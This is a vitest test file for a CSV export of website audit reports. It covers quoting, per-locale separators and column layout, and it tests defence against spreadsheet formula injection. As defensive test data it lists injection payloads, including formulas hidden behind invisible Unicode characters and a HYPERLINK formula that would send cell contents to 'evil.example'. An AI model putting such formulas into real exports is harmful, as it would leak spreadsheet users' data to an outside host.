import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { reportTable } from '../../../../components/reports/export/csv.ts';
import {
  csvBom,
  csvForm,
  csvRow as csvRowIn,
  csvTime,
  type CsvValue,
} from '../../../../components/reports/export/csv-row.ts';
import type { Report } from '../../../../lib/domain/reports/report.ts';
import { readAddresses } from '../../../../lib/list-reader/read-addresses.ts';
import { aReport } from '../../../support/builders/values.ts';

const form = csvForm('en');
const csvRow = (values: CsvValue[]) => csvRowIn(values, form);

/**
 * Reads one row as RFC 4180 defines it, with code of its own, so that writer and reader cannot
 * share a mistake.
 */
function readRow(text: string): string[] {
  const rest = text.replace(/\r\n$/, '');
  return [...`,${rest}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

describe('a row of CSV', () => {
  test('comes back as it was, whatever stands in it, but for what would run as a formula', () => {
    const harmless = fc
      .string({ unit: 'grapheme' })
      .filter((text) => !/[=+\-@＝＋－＠]|^[\t\r\n]/u.test(text));
    fc.assert(
      fc.property(fc.array(harmless, { minLength: 1 }), (values) => {
        expect(readRow(csvRow(values))).toEqual(values);
      }),
    );
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    ' =1',
    '＝1+1',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
  ])('with %j runs nothing', (text) =>
    expect(readRow(csvRow([text, 'b']))).toEqual([`'${text}`, 'b']),
  );

  test.each([
    ['a zero-width space', 0x20_0b],
    ['a zero-width joiner', 0x20_0d],
    ['a left-to-right mark', 0x20_0e],
    ['an Arabic letter mark', 0x6_1c],
    ['an override', 0x20_2e],
    ['an isolate', 0x20_66],
    ['a word joiner', 0x20_60],
    ['a byte order mark', 0xfe_ff],
    ['a no-break space', 0xa0],
    ['a line separator', 0x20_28],
    ['a soft hyphen', 0xad],
    ['a Hangul filler', 0x31_64],
    ['a variation selector', 0xfe_0f],
    ['a tag', 0xe_00_41],
    ['nothing that is printed', 0],
  ])('runs nothing behind %s', (_name, code) => {
    const mark = String.fromCodePoint(code);
    expect(readRow(csvRow([`${mark}=1+1`, `${mark} ${mark}@SUM(A1)`]))).toEqual([
      `'${mark}=1+1`,
      `'${mark} ${mark}@SUM(A1)`,
    ]);
    expect(readRow(csvRow([`${mark}a=1`]))).toEqual([`${mark}a=1`]);
  });

  test('leaves text that looks like a number as the service sent it, which other programs look for', () => {
    expect(csvRow(['0012', '1e5', '12345678901234567890', '1/2', 'TRUE', '7.10'])).toBe(
      '0012,1e5,12345678901234567890,1/2,TRUE,7.10\r\n',
    );
  });

  test('leaves numbers as numbers, and what is not there empty', () => {
    expect(csvRow([-1, 0, null, undefined, true, ''])).toBe('-1,0,,,true,\r\n');
  });

  test('quotes what a spreadsheet would split or trim', () => {
    expect(csvRow(['a,b', 'a;b', 'say "x"', 'a\r\nb', ' a'])).toBe(
      '"a,b","a;b","say ""x""","a\r\nb"," a"\r\n',
    );
  });
});

/** The table of these reports, with their links and the audits before. */
function tableOf(...reports: Report[]): string[][] {
  const table = reportTable(form);
  for (const report of reports)
    table.add(report, {
      link: 'https://reports.example.org/7',
      before: { reportId: '3', at: 0, result: 'bad', score: 14, privacy: null },
    });
  return table.toText().trimEnd().split('\r\n').map(readRow);
}

const report = aReport({
  id: '7',
  url: 'example.com/a,b',
  result: 'good',
  generatedAt: 0,
  project: null,
});

test('A report is a row with the names of the interface, its whole address, its privacy in words, its page and the audit before', () => {
  expect(tableOf(report)).toEqual([
    'id,url,result,score,generated_at,privacy,password,project,link,previous_result,previous_score'.split(
      ',',
    ),
    [
      '7',
      'https://example.com/a,b',
      'good',
      '90',
      csvTime(0),
      'private',
      'false',
      '',
      'https://reports.example.org/7',
      'bad',
      '14',
    ],
  ]);
  const unknown = { ...report, privacy: 0, generatedAt: null, result: null, score: null } as const;
  expect(tableOf(unknown)[1]?.slice(2, 7)).toEqual(['', '', '', 'public', 'false']);
  // Some services keep the password that a report had before it became public.
  expect(tableOf({ ...report, privacy: 0, hasPassword: true })[1]?.slice(5, 7)).toEqual([
    'public',
    'false',
  ]);
  expect(tableOf({ ...report, sentPage: 'example.com/a,b#/route' })[1]?.[1]).toBe(
    'https://example.com/a,b#/route',
  );
  expect(tableOf({ ...report, url: 'no page' })[1]?.[1]).toBe('no page');
  expect(new TextEncoder().encode(csvBom)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
});

test('Each category that any report has is a column, and all rows are as long', () => {
  const [names, ...rows] = tableOf(
    report,
    { ...report, categories: { seo: 92, performance: null } },
    { ...report, categories: { accessibility: 40, seo: 71 } },
  );
  expect(names?.slice(11)).toEqual(['seo', 'performance', 'accessibility']);
  expect(rows.map((row) => row.slice(11))).toEqual([
    ['', '', ''],
    ['92', '', ''],
    ['71', '', '40'],
  ]);
});

test('Where the decimal sign is a comma, fields are divided by semicolons', () => {
  for (const language of ['en', 'en-GB', 'ja', 'he', 'es-MX', 'en-CH'])
    expect(csvForm(language)).toEqual({ separator: ',', decimal: '.' });
  for (const language of ['de', 'fr', 'pt-BR', 'ru', 'sv'])
    expect(csvForm(language)).toEqual({ separator: ';', decimal: ',' });
});

test('Some languages have semicolons although their decimal sign is no comma', () => {
  for (const language of ['de-CH', 'de-LI', 'it-CH', 'ar', 'ar-EG', 'ar-u-nu-latn', 'fa-IR', 'ur'])
    expect(csvForm(language)).toEqual({ separator: ';', decimal: '.' });
});

test.each(['en', 'de'])(
  '“New reports” reads the pages of a file of ours in the form of %s',
  (language) => {
    const table = reportTable(csvForm(language));
    for (const id of ['7', '8', '9'])
      table.add(
        { ...report, id, url: `example.com/${id}`, score: 68.5, categories: { seo: 92 } },
        { link: `https://reports.example.org/reports/${id}` },
      );
    expect(readAddresses(csvBom + table.toText())?.addresses.map(({ text }) => text)).toEqual([
      'https://example.com/7',
      'https://example.com/8',
      'https://example.com/9',
    ]);
  },
);
